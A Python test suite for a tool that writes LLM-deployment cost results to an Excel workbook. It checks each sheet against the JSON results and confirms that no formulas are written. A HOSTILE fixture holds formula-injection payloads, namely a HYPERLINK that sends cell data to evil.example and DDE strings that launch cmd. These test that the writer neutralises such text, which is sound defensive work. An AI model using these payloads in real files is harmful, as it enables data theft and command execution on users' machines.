"""The results workbook: every figure equals the JSON results, values only, safe text, opens in LibreOffice."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from pypdf import PdfReader

from crossover.catalogue import Catalogue
from crossover.delivery.results_workbook import put, write_results_workbook
from crossover.engine.results import Results
from crossover.summary import display
from crossover.wording import DRIVER_LABELS, Words

from .delivery_fixtures import EXAMPLE_JSONS, analyse_raw, example_raw

# openpyxl writes floats with 16 significant digits ("%.16g"); Excel shows 15.
REL = 1e-15
STEMS = [path.stem for path in EXAMPLE_JSONS]


def same(cell: Any, expected: Any) -> bool:
    """A cell read back equals a JSON value: numbers to openpyxl's precision, blanks as None."""
    if expected is None or expected == "" or expected == []:
        return cell is None
    if isinstance(expected, bool) or isinstance(cell, bool):
        return cell is expected
    if isinstance(expected, int | float):
        return isinstance(cell, int | float) and cell == pytest.approx(expected, rel=REL, abs=1e-12)
    if isinstance(expected, list):
        return bool(cell == ", ".join(str(item) for item in expected))
    if isinstance(cell, datetime):
        return bool(cell.date().isoformat() == expected)
    return bool(cell == expected)


def tier_name(tier: dict[str, Any]) -> str:
    """A results tier as the workbook names it: a part of a tier split by difficulty as
    'extraction (the easier 60%)' / '(the other 40%)', any other tier by its id."""
    part = tier.get("part")
    if part is None:
        return str(tier["tier"])
    which = "the easier" if part["part"] == "easier" else "the other"
    return f"{part['of']} ({which} {part['share_of_tier_pct']:g}%)"


def served(data: dict[str, Any], tier_ids: list[str]) -> list[str]:
    """The tiers a deployment serves by name: both parts of a split tier as the tier."""
    tiers = {t["tier"]: t for t in data["tiers"]}
    found: list[str] = []
    for tier_id in tier_ids:
        part = tiers[tier_id].get("part")
        both = part is not None and all(
            t in tier_ids for t, v in tiers.items() if (v.get("part") or {}).get("of") == part["of"]
        )
        name = part["of"] if part is not None and both else tier_name(tiers[tier_id])
        if name not in found:
            found.append(name)
    return found


def table(sheet: Worksheet) -> list[dict[str, Any]]:
    rows = list(sheet.iter_rows(values_only=True))
    headers = rows[0]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def labelled(sheet: Worksheet) -> dict[str, Any]:
    return {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0]}


def labelled_usd(sheet: Worksheet) -> dict[str, Any]:
    """The summary's figures in US dollars: the column beside the display currency, if any."""
    found = {}
    for row in sheet.iter_rows(min_row=2, values_only=True):
        if row[0]:
            found[row[0]] = row[3] if len(row) > 3 and row[3] is not None else row[1]
    return found


def words_for(data: dict[str, Any]) -> Words:
    results = Results.model_validate_json(json.dumps(data))
    return Words(results, display(results))


@pytest.fixture(scope="module")
def workbooks(
    example_results: dict[str, Results], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, tuple[Path, dict[str, Any]]]:
    """Each example written to .xlsx, with its results as the JSON the report saves."""
    folder = tmp_path_factory.mktemp("results-workbooks")
    written = {}
    for stem, results in example_results.items():
        path = folder / f"{stem}-results.xlsx"
        write_results_workbook(results, path)
        written[stem] = (path, json.loads(results.model_dump_json()))
    return written


def _headline(data: dict[str, Any]) -> dict[str, Any]:
    """The headline plan in the results JSON."""
    return next(p for p in data["plans"] if p["key"] == data["headline"]["plan"])


@pytest.mark.parametrize("stem", STEMS)
def test_every_plan_compared_equals_the_json(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, data = workbooks[stem]
    rows = table(load_workbook(path)["Plans"])
    assert len(rows) == len(data["plans"])
    assert [r["Recommended"] for r in rows] == [
        p["key"] == data["headline"]["plan"] for p in data["plans"]
    ]
    for row, plan in zip(rows, data["plans"], strict=True):
        assert same(row["Allowed"], plan["allowed"])
        assert same(row["API (USD/month)"], plan["api_month_usd"])
        assert same(row["GPUs (USD/month)"], plan["gpu_month_usd"])
        assert same(row["Infrastructure overhead (USD/month)"], plan["overhead_month_usd"])
        assert same(row["Operations (USD/month)"], plan["ops_month_usd"])
        assert same(row["Today (USD/month)"], plan["monthly_cost_usd"])
        assert same(row["Over the horizon (USD)"], plan["horizon"]["cumulative_plan_usd"])
        assert same(row["Savings (USD/month)"], plan["monthly_savings_usd"])
        assert same(row["Payback (weeks)"], plan["payback_weeks"])
        assert same(row["GPUs billed"], plan["billed_gpus"])
        assert same(row["Proven best"], plan["proven"])
        tiers = {t["tier"]: t for t in data["tiers"]}
        for tier, route in plan["routes"].items():
            # A split tier whose parts go one way is named once, as the tier.
            names = {tier_name(tiers[tier]), (tiers[tier].get("part") or {}).get("of", tier)}
            assert any(
                (f"{n} → API" if route == "api" else f"{n} → {route}") in row["Routes"]
                for n in names
            )
        # The provider's instance code is the JSON's, not the workbook's words.
        for placed in plan["instances"].values():
            if placed["instance"] is not None:
                assert placed["instance"] not in row["Routes"]


@pytest.mark.parametrize("stem", STEMS)
def test_every_tier_figure_equals_the_json(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, data = workbooks[stem]
    rows = table(load_workbook(path)["Tiers"])
    assert len(rows) == len(data["tiers"])
    for row, tier in zip(rows, data["tiers"], strict=True):
        pairs = {
            "Tier": tier_name(tier),
            "Share of its tier": (tier.get("part") or {}).get("share_of_tier_pct", 100),
            "Share of volume": tier["share_pct"],
            "API model": tier["api_model"],
            "Route": tier["route"],
            "Deployment": tier["deployment"],
            "Input (Mtok/day)": tier["input_mtok_per_day"],
            "Output (Mtok/day)": tier["output_mtok_per_day"],
            "Input price (USD/Mtok)": tier["prices"]["input_per_mtok"],
            "Cached input price (USD/Mtok)": tier["prices"]["cached_input_per_mtok"],
            "Output price (USD/Mtok)": tier["prices"]["output_per_mtok"],
            "API cost (USD/month)": tier["api_month_usd"],
            "API cost without cache (USD/month)": tier["api_month_without_cache_usd"],
            "API cost at realtime prices (USD/month)": tier["api_month_at_realtime_price_usd"],
            "Blended API price (USD/Mtok)": tier["blended_price_per_mtok_usd"],
        }
        for header, expected in pairs.items():
            assert same(row[header], expected), header


@pytest.mark.parametrize("stem", STEMS)
def test_every_sizing_figure_equals_the_json(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, data = workbooks[stem]
    sheet = load_workbook(path)["Sizing"]
    columns = list(sheet.iter_cols(values_only=True))
    labels = columns[0]
    # The headline plan's deployments, then the options it does not use.
    deployments = _headline(data)["deployments"] + data["unused_deployments"]
    if not deployments:
        assert sheet["B1"].value == "no self-hosted deployment in this scenario"
        return
    by_label = {
        "Replicas (incl. redundancy)": "replicas",
        "GPUs billed": "billed_gpus",
        "GPU-hour price (USD)": "gpu_hour_price_usd",
        "Average utilisation": "average_utilisation",
        "Break-even utilisation": "break_even_utilisation",
        "GPUs (USD/month)": "gpu_month_usd",
        "Infrastructure overhead (USD/month)": "overhead_month_usd",
        "Share of operations (USD/month)": "ops_share_month_usd",
        "All-in cost (USD/Mtok)": "all_in_cost_per_mtok_usd",
        "Rate per replica at this mix (tokens/s)": "effective_tps_per_replica",
        "Peak demand (tokens/s)": "demand_peak_tps",
        "Weights / replica VRAM": "memory_fit_ratio",
        "Routed": "routed",
    }
    assert [c[0] for c in columns[1:]] == [d["deployment"] for d in deployments]
    for column, deployment in zip(columns[1:], deployments, strict=True):
        shown = dict(zip(labels, column, strict=True))
        for label, key in by_label.items():
            assert same(shown[label], deployment[key]), label
        assert same(shown["Tiers routed here"], served(data, deployment["tiers"]))
        assert same(
            shown["Decode rate per GPU (tokens/s)"], deployment["rates"]["decode_tps_per_gpu"]
        )


@pytest.mark.parametrize("stem", STEMS)
def test_every_horizon_month_equals_the_json(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, data = workbooks[stem]
    rows = table(load_workbook(path)["Horizon"])
    months = _headline(data)["horizon"]["months"]
    assert len(rows) == len(months) == data["scenario"]["operations"]["horizon_months"]
    for row, month in zip(rows, months, strict=True):
        # Months are counted from 1 as in the PDF; the engine's are 0-based.
        assert row["Month (1 = setup)"] == month["month"] + 1
        assert same(row["Volume factor"], month["volume_factor"])
        assert same(row["Total volume (Mtok/day)"], month["total_mtok_per_day"])
        assert same(row["API only (USD)"], month["api_only_usd"])
        assert same(row["Recommended plan incl. setup (USD)"], month["plan_usd"])
        assert same(row["Cumulative API only (USD)"], month["cumulative_api_only_usd"])
        assert same(row["Cumulative recommended plan (USD)"], month["cumulative_plan_usd"])
        replicas = {
            k.removeprefix("Replicas: "): v for k, v in row.items() if k.startswith("Replicas: ")
        }
        assert {k: v for k, v in replicas.items() if v is not None} == month["replicas"]


@pytest.mark.parametrize("stem", STEMS)
def test_the_summary_and_the_inputs_equal_the_json(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, data = workbooks[stem]
    workbook = load_workbook(path)
    summary = labelled_usd(workbook["Summary"])
    shown = labelled(workbook["Summary"])
    fx = data["usd_fx_rate"]
    plan = _headline(data)
    api_only = next(p for p in data["plans"] if "api_only" in [p["name"], *p["also"]])
    proposal = next(p for p in data["plans"] if "proposed" in [p["name"], *p["also"]])
    # Money in the client's currency first, the engine's US dollars beside it.
    assert same(shown["Monthly savings"], plan["monthly_savings_usd"] * fx)
    assert summary["Client"] == data["scenario"]["client"]["client_name"]
    # Every figure is the headline plan's; API only and the proposal are named as such.
    assert same(summary["Monthly savings"], plan["monthly_savings_usd"])
    assert same(summary["Setup cost"], plan["setup_cost_usd"])
    assert same(summary["Recommended plan, per month"], plan["monthly_cost_usd"])
    assert same(summary["API only, per month"], api_only["monthly_cost_usd"])
    assert same(summary["Your proposal, per month"], proposal["monthly_cost_usd"])
    if plan["payback_weeks"] is None:
        assert summary["Payback"] == "never (no monthly saving)"
    else:
        assert same(summary["Payback"], plan["payback_weeks"])
    if plan["crossover"]["crossover_mtok_per_day"] is not None:
        assert same(summary["Crossover volume"], plan["crossover"]["crossover_mtok_per_day"])

    inputs = workbook["Inputs"]
    for section, field, value, _ in inputs.iter_rows(min_row=2, values_only=True):
        expected = data["scenario"][section]
        for part in field.split("."):  # a range is shown as field.low, field.likely, field.high
            expected = expected[part] if expected is not None else None
        assert same(value, expected), f"{section}.{field}"
    tiers = table(workbook["Input tiers"])
    assert len(tiers) == len(data["scenario"]["tiers"])
    for row, tier in zip(tiers, data["scenario"]["tiers"], strict=True):
        for field, value in tier.items():
            assert same(row[field], value), field
    overrides = table(workbook["Input price overrides"])
    assert len(overrides) == len(data["scenario"]["price_overrides"])


def test_number_formats_frozen_headers_and_widths(
    workbooks: dict[str, tuple[Path, dict[str, Any]]],
) -> None:
    path, _ = workbooks["document-intelligence"]
    workbook = load_workbook(path)
    plans = workbook["Plans"]
    assert plans.freeze_panes == "A2"
    assert plans["E2"].number_format == '"$"#,##0.00'  # API (USD/month)
    assert plans["A1"].font.b
    assert plans.column_dimensions["A"].width >= 10
    tiers = workbook["Tiers"]
    assert tiers["B2"].number_format == '0.0#"%"'  # share_pct is already in percent
    assert tiers["J2"].number_format == '"$"#,##0.00##'
    sizing = workbook["Sizing"]
    assert sizing.freeze_panes == "B2"
    utilisation_row = next(
        r for r in range(1, sizing.max_row + 1) if sizing.cell(r, 1).value == "Average utilisation"
    )
    assert sizing.cell(utilisation_row, 2).number_format == "0.0%"
    horizon = workbook["Horizon"]
    assert horizon.freeze_panes == "A2"
    assert horizon["C2"].number_format == "#,##0.0##"
    assert workbook["Summary"]["B3"].is_date


@pytest.mark.parametrize("stem", STEMS)
def test_values_only_no_formula_anywhere(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, _ = workbooks[stem]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


HOSTILE = {
    "client_name": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
    "prepared_by": "+1+cmd|' /C notepad'!A0\x07",
}


@pytest.fixture(scope="module")
def hostile_workbook(catalogue: Catalogue, tmp_path_factory: pytest.TempPathFactory) -> Path:
    raw = example_raw()
    raw["client"].update(HOSTILE)
    raw["tiers"][1]["tier"] = "-2+3"
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    write_results_workbook(analyse_raw(raw, catalogue), path)
    return path


def test_text_that_looks_like_a_formula_stays_text(hostile_workbook: Path) -> None:
    workbook = load_workbook(hostile_workbook)
    cells = {
        cell.value: cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    expected = [
        HOSTILE["client_name"],
        HOSTILE["industry"],
        "+1+cmd|' /C notepad'!A0\ufffd",  # a control character XML cannot hold is marked
        "-2+3",
    ]
    for text in expected:
        cell = cells[text]
        assert cell.data_type == "s"
        assert cell.quotePrefix, text
    assert not cells["extraction"].quotePrefix


@pytest.mark.parametrize("text", ["\tcmd", "\r=1+1", "=1+1", "+1", "-1", "@A1"])
def test_every_formula_trigger_is_quote_prefixed(text: str, tmp_path: Path) -> None:
    workbook = Workbook()
    put(workbook.active, 1, 1, text)
    put(workbook.active, 2, 1, "plain text")
    workbook.save(tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].quotePrefix
    # XML reads a bare CR back as LF: the text is otherwise what was written.
    assert sheet["A1"].value == text.replace("\r", "\n")
    assert not sheet["A2"].quotePrefix


def test_non_finite_numbers_show_instead_of_going_blank(tmp_path: Path) -> None:
    workbook = Workbook()
    put(workbook.active, 1, 1, float("inf"), "#,##0")
    put(workbook.active, 2, 1, date(2026, 1, 2))
    workbook.save(tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A1"].value == "inf"
    assert sheet["A2"].value == datetime(2026, 1, 2)


def test_written_atomically_over_an_earlier_file(
    example_results: dict[str, Results], tmp_path: Path
) -> None:
    path = tmp_path / "out" / "acme-results.xlsx"
    path.parent.mkdir()
    path.write_bytes(b"an earlier version")
    write_results_workbook(example_results["small-startup"], path)
    assert zipfile.is_zipfile(path)
    assert [p.name for p in path.parent.iterdir()] == ["acme-results.xlsx"]


def _soffice(args: list[str], profile: Path) -> None:
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", *args],
        check=True,
        capture_output=True,
        timeout=180,
    )


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_it_and_keeps_hostile_text_as_text(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], hostile_workbook: Path, tmp_path: Path
) -> None:
    path, data = workbooks["document-intelligence"]
    profile = tmp_path / "lo-profile"
    out = tmp_path / "converted"
    _soffice(
        ["--convert-to", "pdf", "--outdir", str(out), str(path), str(hostile_workbook)], profile
    )
    pdf = PdfReader(out / f"{path.stem}.pdf")
    assert len(pdf.pages) >= 1
    assert "Northwind Documents" in "".join(page.extract_text() for page in pdf.pages)

    # The first sheet (Summary) as LibreOffice computes it: the client's text is not evaluated.
    _soffice(["--convert-to", "csv", "--outdir", str(out), str(hostile_workbook)], profile)
    rows = list(csv.reader(io.StringIO((out / "hostile.csv").read_text(encoding="utf-8"))))
    shown = {row[0]: row[1] for row in rows if len(row) >= 2}
    assert shown["Client"] == HOSTILE["client_name"]
    assert shown["Prepared by"].startswith("+1+cmd")
    assert data["scenario"]["client"]["client_name"] == "Northwind Documents"


@pytest.mark.parametrize("stem", STEMS)
def test_every_sensitivity_bar_equals_the_json(
    workbooks: dict[str, tuple[Path, dict[str, Any]]], stem: str
) -> None:
    path, data = workbooks[stem]
    rows = table(load_workbook(path)["Sensitivity"])
    plan = _headline(data)
    # A plan that self-hosts nothing saves nothing whatever moves: no bars.
    assert len(rows) == len(plan["sensitivity"])
    assert (len(rows) > 0) == bool(plan["instances"])
    words = words_for(data)
    bars = Results.model_validate_json(json.dumps(data)).headline_plan.sensitivity
    for row, bar, typed in zip(rows, plan["sensitivity"], bars, strict=True):
        assert row["Driver"] == DRIVER_LABELS[bar["driver"]]
        assert row["Low end"] == words.sensitivity_end(typed, "low")
        assert row["High end"] == words.sensitivity_end(typed, "high")
        assert same(row["Monthly savings at the low end (USD)"], bar["monthly_savings_usd_low"])
        assert same(row["Monthly savings at the high end (USD)"], bar["monthly_savings_usd_high"])
        low, high = bar["payback_weeks_low"], bar["payback_weeks_high"]
        assert same(row["Payback at the low end (weeks)"], "never" if low is None else low)
        assert same(row["Payback at the high end (weeks)"], "never" if high is None else high)
        assert same(row["Swing (USD/month)"], bar["swing"])


def test_the_simulation_and_the_ranges_equal_the_json(catalogue: Catalogue, tmp_path: Path) -> None:
    raw = example_raw()
    raw["uncertainty"] = {
        "volume_factor": {"low": 0.7, "likely": 1.0, "high": 1.4},
        "api_price_change_pct": {"low": -30, "likely": 0, "high": 10},
        "draws": 1000,
    }
    results = analyse_raw(raw, catalogue)
    data = json.loads(results.model_dump_json())
    path = tmp_path / "mc.xlsx"
    write_results_workbook(results, path)
    workbook = load_workbook(path)

    simulation = _headline(data)["monte_carlo"]
    shown = labelled(workbook["Simulation"])
    assert same(
        shown["Chance the recommended plan costs less over the horizon"],
        simulation["probability_plan_cheaper"],
    )
    assert same(shown["Monthly savings, 10th percentile"], simulation["monthly_savings_usd_p10"])
    assert same(shown["Monthly savings, median"], simulation["monthly_savings_usd_p50"])
    assert same(shown["Monthly savings, 90th percentile"], simulation["monthly_savings_usd_p90"])
    assert same(shown["Savings over the horizon, median"], simulation["cumulative_savings_usd_p50"])
    assert shown["In one sentence"] == words_for(data).confidence()
    assert shown["Simulated futures"] == 1000
    rows = list(workbook["Simulation"].iter_rows(values_only=True))
    header = rows.index(("Monthly savings from (USD)", "Up to (USD)", "Draws"))
    histogram = rows[header + 1 :]
    assert [row[2] for row in histogram] == simulation["histogram"]["counts"]
    assert [row[0] for row in histogram] == pytest.approx(
        simulation["histogram"]["edges_usd"][:-1], rel=REL
    )

    inputs = {
        (row[0], row[1]): row[2]
        for row in workbook["Inputs"].iter_rows(min_row=2, values_only=True)
    }
    assert inputs[("uncertainty", "volume_factor.low")] == 0.7
    assert inputs[("uncertainty", "volume_factor.high")] == 1.4
    assert inputs[("uncertainty", "api_price_change_pct.low")] == -30
    assert inputs[("uncertainty", "gpu_price_factor")] is None


def test_without_ranges_the_simulation_sheet_says_so(
    workbooks: dict[str, tuple[Path, dict[str, Any]]],
) -> None:
    path, data = workbooks["small-startup"]
    assert _headline(data)["monte_carlo"] is None
    sheet = load_workbook(path)["Simulation"]
    assert sheet["A2"].value == "No uncertainty range was given, so there is no simulation."
